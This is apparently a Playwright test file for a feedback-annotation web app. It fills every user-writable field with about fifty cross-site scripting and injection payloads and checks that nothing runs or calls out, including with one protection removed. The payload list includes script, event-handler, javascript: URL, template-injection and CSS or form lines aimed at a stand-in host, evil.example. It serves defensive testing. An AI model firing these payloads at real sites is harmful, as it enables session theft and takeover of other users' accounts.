"""Text that tries to be a program, in everything people and models can write, on every page that shows it.

Nothing may run, nothing may become markup, and no other host may be asked for anything. The same page does run it once
its protection is taken away; of the two protections, escaping and the content policy, each holds alone.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from types import SimpleNamespace
from typing import TYPE_CHECKING

import pytest
import sqlalchemy as sa
from jinja2 import Environment
from tests.browser.frogs import KINDS, STEPS
from tests.browser.serving import Served, Visit
from tests.web.test_runs import training

from heedlm.feedback import tables
from heedlm.feedback.tasks import Content
from heedlm.feedback.tokens import Tokens
from heedlm.feedback.verdicts import Verdicts
from heedlm.records import Answer, Message
from heedlm.web import app as application
from heedlm.web import render

if TYPE_CHECKING:
    from playwright.sync_api import Page

Going = Callable[..., Visit]
EVIL = "evil.example"
# §: the number by which it is known which one ran. R(n) is a function that each page of these tests has.
TEXTS = (
    "<script>R(§)</script>",
    "<ScRiPt >R(§)</sCrIpT\n>",
    "<script src=//evil.example/§.js></script>",
    "<img src=x onerror=R(§)>",
    "<img src=//evil.example/§.png>",
    "<IMG SRC=x OnErRoR='R(§)'>",
    "<svg onload=R(§)>",
    "<svg><script>R(§)</script></svg>",
    "<svg><animate onbegin=R(§) attributeName=x dur=1s>",
    "<body onload=R(§)>",
    "<details open ontoggle=R(§)>",
    "<video><source onerror=R(§)></video>",
    "<input autofocus onfocus=R(§)>",
    "<a href=javascript:R(§)>press me</a>",
    "<a href='java\tscript:R(§)'>me too</a>",
    "[markdown](javascript:R(§)) ![x](//evil.example/§.png)",
    "javascript:R(§)//",
    "<iframe srcdoc='<script>parent.R(§)</script>'></iframe>",
    "<iframe src=javascript:parent.R(§)></iframe>",
    "<object data='data:text/html,<script>parent.R(§)</script>'>",
    "<embed src='data:text/html,<script>R(§)</script>'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/§'>",
    "<base href=//evil.example/§/>",
    "<link rel=stylesheet href=//evil.example/§.css>",
    "<style>@import '//evil.example/§.css';</style>",
    "<style>*{background:url(//evil.example/§)}</style>",
    "<form action=//evil.example/§><button>send</button></form>",
    '"><script>R(§)</script>',
    "'><img src=x onerror=R(§)>",
    '" autofocus onfocus=R(§) x="',
    "' onmouseover=R(§) '",
    "</script><script>R(§)</script>",
    "</textarea><img src=x onerror=R(§)>",
    "</title></head><body onload=R(§)>",
    "</option></select><img src=x onerror=R(§)>",
    '{"a":"</script><script>R(§)</script>"}',
    "--><script>R(§)</script><!--",
    "]]><script>R(§)</script>",
    "{{7*7}}{{constructor.constructor('R(§)')()}}",
    "{% print(R(§)) %}${R(§)}#{R(§)}<%= R(§) %>",
    "&lt;script&gt;R(§)&lt;/script&gt;&#60;img src=x onerror=R(§)&#62;",
    "\\u003cscript\\u003eR(§)\\u003c/script\\u003e\\x3cimg src=x onerror=R(§)\\x3e",
    "\uff1cscript\uff1eR(§)\uff1c/script\uff1e",
    "<scr\u200bipt>R(§)</scr\u200bipt>\u2028R(§)\u2029",
    "\u202e>(§)R=rorreno x=crs gmi<\u202c",
    "**粗体**<img src=x onerror=R(§)>请比较这两个回答",
    "<math><mtext><table><mglyph><style><img src=x onerror=R(§)>",
    "<noscript><p title='</noscript><img src=x onerror=R(§)>'>",
    "';R(§);//\\';R(§);//\"-R(§)-\"`${R(§)}`",
    "__proto__[x]=R(§)&constructor.prototype.x=R(§)",
    '=HYPERLINK("//evil.example/§")',
)
PAYLOADS = [text.replace("§", str(number)) for number, text in enumerate(TEXTS)]
ALL = "\n".join(PAYLOADS)
NAMES = [text for text in PAYLOADS if len(text) <= 64 and text.isprintable() and "/" not in text]
WATCH = """
window.ran = [];
window.R = (number) => window.ran.push(number);
for (const name of ["alert", "confirm", "prompt"]) window[name] = () => window.ran.push(name);
"""
LOOK = """() => ({
  ran: window.ran,
  handlers: [...document.querySelectorAll("*")].flatMap((e) =>
    [...e.attributes].filter((a) => a.name.startsWith("on") || a.name === "srcdoc"
      || (/^(href|src|action|formaction|xlink:href|data)$/.test(a.name) && /^\\s*java\\s*script:/i.test(a.value)))
      .map((a) => `${e.localName} ${a.name}=${a.value}`)),
  foreign: [...document.querySelectorAll("object, embed, base, form[action*='//'], script")]
    .filter((e) => e.localName !== "script" || !/^(\\/static\\/.*|)$/.test(e.getAttribute("src") ?? "")
      || !(e.hasAttribute("src") || e.type === "application/json"))
    .map((e) => e.outerHTML.slice(0, 200)),
  hosts: [...document.querySelectorAll("[src], [href]")].map((e) => e.src?.baseVal ?? e.src ?? e.href)
    .filter((a) => typeof a === "string" && /^(https?:)?\\/\\//.test(a) && new URL(a, location).host !== location.host),
  styles: document.querySelectorAll("style").length,
})"""


def hostile(kind: str, place: int = 0) -> Content:
    """An item all of whose texts are hostile."""
    return Content(
        prompt=(Message(role="user", content=f"{place} {ALL}"),),
        answers=tuple(Answer(text=f"{n} {ALL}", model=PAYLOADS[n]) for n in range(KINDS[kind])),
        steps=tuple(f"{step} {ALL}" for step in STEPS) if kind == "steps" else (),
        critiques=(ALL,) * KINDS[kind],
        notes={"topics": [PAYLOADS[3], PAYLOADS[31]]},
    )


@pytest.fixture
def planted(served: Served) -> SimpleNamespace:
    """A site full of it; where a path needs a key, the key of something hostile."""
    state, olga = served.state, served.people["olga"]
    mia, ann, ben = served.person("mia", "manager"), served.person("ann", group=PAYLOADS[3]), served.person("ben")
    dan = served.person("dan", "chat")
    people = [served.person(name, group=name) for name in NAMES]
    works = {}
    for number, kind in enumerate(KINDS):
        settings = {"warn": ALL, "critiques_first": True, "adjudicate_below": 1.0}
        made = state.projects.create(mia, PAYLOADS[number + 3][:120], kind, guideline=ALL, overlap=2, settings=settings)
        state.projects.add_items(mia, made.id, [hostile(kind, place) for place in range(3)])
        for person in (olga, ann, ben, *people):
            state.projects.join(mia, made.id, person.id)
        works[kind] = made.id
    for text in PAYLOADS:
        state.projects.create(mia, text[:120].strip(), "thumb", guideline=text)
    pair = works["pair"]
    for person, better in ((ann, 0), (ben, 1)):
        task = state.assigner.next(person, pair)
        shown = state.projects.seen(person, pair).kind.shown({"better": better, "strength": "better"}, task.order)
        state.assigner.submit(person, task.id, shown, key=f"{person.name}-{task.id}"[:64], base=0, seconds=1)
    state.assigner.skip(ann, state.assigner.next(ann, pair).id, ALL)
    item = state.assigner.done(ann, pair)[0].item
    state.accounts.change(ann.id, {"avoids": PAYLOADS[:40], "demographics": {"age": PAYLOADS[3], "gender": ALL[:200]}})
    talks = {}
    for person in (olga, mia, ann, dan):
        for text in (*PAYLOADS, ALL):
            talk = state.conversations.start(person, PAYLOADS[3], text, consent=True)
        (asked,) = state.conversations.messages(person, talk.id)
        for number in range(2):
            begun = state.conversations.answer(person, talk.id, asked.id, PAYLOADS[number + 3])
            state.conversations.finish(begun.answer.id, f"{number} {ALL}", "whole")
        Verdicts(state.database).give(person, talk.id, begun.answer.id, "down", f"{talk.id}-key", reason=ALL[:1000])
        Tokens(state.database).make(person, PAYLOADS[3])
        talks[person.name] = talk.id
    state.services.models[PAYLOADS[3]] = state.services.models["parrot"]
    run = training(state.services.runs, "hostile", steps=20)
    run.samples(20, [{"prompt": ALL, "answer": ALL, "reward": 1.0}])
    run.note(note=ALL, monitor={"state": PAYLOADS[3]})
    other = training(state.services.runs, "renamed", steps=2)  # no command makes such a name, a hand may
    other.path.rename(other.path.with_name(PAYLOADS[3]))
    with state.database.write() as connection:
        row = {"id": "e" * 24, "project": pair, "by": mia.id, "command": ["reward", *PAYLOADS], "state": "failed"}
        connection.execute(tables.jobs.insert().values({**row, "created": 1.0, "note": ALL, "run": f"ppo/{run.name}"}))
        found = {"id": "f" * 24, "removed": {PAYLOADS[3]: 1}, "models": PAYLOADS, "rebuilt": PAYLOADS}
        more = {"id": "f" * 24, "user": "g" * 24, "at": 1.0, "found": found | {"scrubbed": PAYLOADS, "copies": []}}
        connection.execute(tables.erasures.insert().values(more))
    keys = {"project": pair, "item": item, "user": people[0].id, "job": "e" * 24, "run": f"{run.info.stage}/{run.name}"}
    return SimpleNamespace(works=works, talks=talks, keys=keys, run=run)


def watched(visit: Going, name: str | None) -> Visit:
    seen = visit(name)
    seen.context.add_init_script(WATCH)
    return seen


def look(seen: Visit, path: str, page: Page | None = None) -> str:
    """Open everything that a page keeps folded; returns its text, once nothing hostile was found on it.

    Args:
        seen: The browser.
        path: The page, to be opened unless a tab has it.
        page: The tab that has it.
    """
    before = len(seen.trouble) if page is None else 0
    if page is None:
        page = seen.page
        page.goto(path)
    page.wait_for_load_state("networkidle")
    page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
    page.mouse.move(200, 300)
    page.keyboard.press("Tab")
    page.wait_for_timeout(50)
    found = page.evaluate(LOOK)
    assert not any(found.values()), f"{path}: {found}"
    complaints = [text for text in seen.trouble[before:] if "status of 404" not in text or "/nowhere/" not in path]
    assert complaints == [], f"{path}: {complaints}"
    said: str = page.evaluate(
        "document.body.innerText + [...document.querySelectorAll('input, textarea, option')]"
        ".map((each) => each.value + each.textContent).join('\\n') + document.title"
    )
    return said


def pages(served: Served, role: str) -> list[str]:
    """The paths of all pages that a role may open, from the application itself."""
    found = []
    for path, methods in served.app.openapi()["paths"].items():
        allowed = methods.get("get", {}).get("x-roles", ())
        is_page = not path.startswith(("/api/", "/v1/")) and path not in ("/", "/healthz")
        if is_page and (role in allowed or "public" in allowed):
            found.append(path)
    return found


def filled(path: str, values: dict[str, str]) -> str:
    """A path with keys in it."""
    return re.sub(r"{(\w+)(:path)?}", lambda found: values[found.group(1)], path)


@pytest.mark.parametrize(
    ("name", "role"), [("olga", "owner"), ("mia", "manager"), ("ann", "annotator"), ("dan", "chat")]
)
def test_nothing_runs_on_any_page(served: Served, visit: Going, planted: SimpleNamespace, name: str, role: str) -> None:
    seen, shown, paths = watched(visit, name), "", []
    keys = {**planted.keys, "conversation": planted.talks[name], "token": "x" * 24}
    for path in pages(served, role):
        if path.endswith(("/report", "/export")) or "{token}" in path:
            continue  # a document of its own in a sandbox, below; a file; and forms without a link show nothing
        several = (
            [{**keys, "project": key} for key in planted.works.values()] if path == "/annotate/{project}" else [keys]
        )
        paths += [filled(path, values) for values in several]
    assert len(paths) >= {"owner": 30, "manager": 25, "annotator": 12, "chat": 6}[role]
    if role in ("owner", "manager"):
        paths.append(f"/runs/compare?run={planted.keys['run']}&run={planted.keys['run']}")
    for first in range(0, len(paths), 4):  # four at a time: each is waited for until it has been silent for a while
        tabs = [(path, seen.tab(path)) for path in paths[first : first + 4]]
        for path, tab in tabs:
            shown += look(seen, path, tab)
            tab.close()
    flat = re.sub(r"\s+", " ", shown)
    unseen = [text for text in PAYLOADS if re.sub(r"\s+", " ", text) not in flat]
    assert unseen == [], f"nowhere to be read: {unseen}"


def test_nothing_runs_while_people_work(served: Served, visit: Going, planted: SimpleNamespace) -> None:
    """Answering, judging, uploading under a hostile file name, a hostile search, an invitation."""
    ann = watched(visit, "ann")
    look(ann, "/chat")
    page = ann.page
    page.locator("#model").select_option(PAYLOADS[3])
    page.get_by_label("Your message").fill(ALL)
    page.keyboard.press("Enter")
    page.locator(".turn.model[data-state=whole]").last.wait_for(timeout=60_000)
    assert not any(page.evaluate(LOOK).values())
    olga = watched(visit, "olga")
    look(olga, f"/projects/{planted.works['pair']}/items")
    form = olga.page.locator("form[data-upload$='/items']")
    with olga.page.expect_response("**/items"):
        file = {"name": f"{PAYLOADS[3]}.jsonl", "mimeType": "x/y", "buffer": ALL.encode()}
        form.locator("input[type=file]").set_input_files(file)  # type: ignore[arg-type]
        form.locator("button").first.click()
    olga.page.wait_for_timeout(200)
    assert not any(olga.page.evaluate(LOOK).values())
    token = served.state.accounts.invite(None, "annotator", group=PAYLOADS[3])
    guest = watched(visit, None)
    look(guest, f"/join/{token}")
    guest.page.get_by_label("Name").fill(PAYLOADS[29])
    guest.page.get_by_label("Password").fill("password123")
    guest.page.locator("main button").click()
    guest.page.get_by_role("alert").wait_for()
    assert not any(guest.page.evaluate(LOOK).values())
    look(guest, "/login?next=javascript:R(1)")
    look(guest, "/login?next=//evil.example/")
    look(guest, f"/nowhere/{PAYLOADS[3]}")
    hosts = [text for each in (ann, olga, guest) for text in each.trouble if EVIL in text]
    assert hosts == []


def test_a_report_is_shut_in(served: Served, visit: Going, planted: SimpleNamespace) -> None:
    olga = watched(visit, "olga")
    olga.page.goto(f"/runs/{planted.keys['run']}/report")
    olga.page.wait_for_load_state("networkidle")
    assert olga.page.evaluate("window.ran") == []
    assert not [text for text in olga.trouble if EVIL in text or "dialog" in text]


# ---------------------------------------------------------------- that these tests can fail


def unescaped() -> Environment:
    known = render._ENVIRONMENT
    return Environment(
        loader=known.loader, autoescape=False, undefined=known.undefined, trim_blocks=True, lstrip_blocks=True
    )


def ran_on_projects(served: Served, visit: Going) -> tuple[set[int], set[str]]:
    """Which payloads run as names of projects, each listed alone, and what another host is asked for."""
    mia, projects = served.person("mia", "manager"), tables.projects
    made = served.state.projects.create(mia, "a name", "thumb")
    seen, ran, asked = visit("mia"), set(), set()
    # What ran is told at once: a payload may lead the page elsewhere before anybody looks.
    seen.context.expose_function("R", lambda number: ran.add(number))
    seen.context.route(f"**://{EVIL}/**", lambda route: route.abort())
    seen.context.on("request", lambda request: asked.add(request.url) if EVIL in request.url else None)
    for first in range(0, len(PAYLOADS), 8):
        tabs = []
        for text in PAYLOADS[first : first + 8]:
            with served.state.database.write() as connection:
                connection.execute(sa.update(projects).where(projects.c.id == made.id).values(name=text))
            tabs.append(seen.tab())
            tabs[-1].goto("/projects", wait_until="commit")
        tabs[-1].wait_for_timeout(500)  # a look at the clock, as nothing tells that nothing more will run
        for tab in tabs:
            tab.close()
    return ran, asked


def test_the_same_page_without_protection_does_run_it(
    served: Served, visit: Going, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(render, "_ENVIRONMENT", unescaped())
    headers = {name: value for name, value in application.HEADERS.items() if name != "content-security-policy"}
    monkeypatch.setattr(application, "HEADERS", headers)
    ran, asked = ran_on_projects(served, visit)
    assert len(ran) >= 18, sorted(ran)
    assert len(asked) >= 3, sorted(asked)


def test_the_content_policy_holds_where_escaping_fails(
    served: Served, visit: Going, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(render, "_ENVIRONMENT", unescaped())
    ran, _ = ran_on_projects(served, visit)
    assert ran == set()


def test_escaping_holds_where_the_policy_is_missing(
    served: Served, visit: Going, monkeypatch: pytest.MonkeyPatch
) -> None:
    headers = {name: value for name, value in application.HEADERS.items() if name != "content-security-policy"}
    monkeypatch.setattr(application, "HEADERS", headers)
    ran, asked = ran_on_projects(served, visit)
    assert (ran, asked) == (set(), set())


def test_the_corpus_is_broad_enough() -> None:
    assert len(set(PAYLOADS)) >= 25
    assert len(NAMES) >= 10
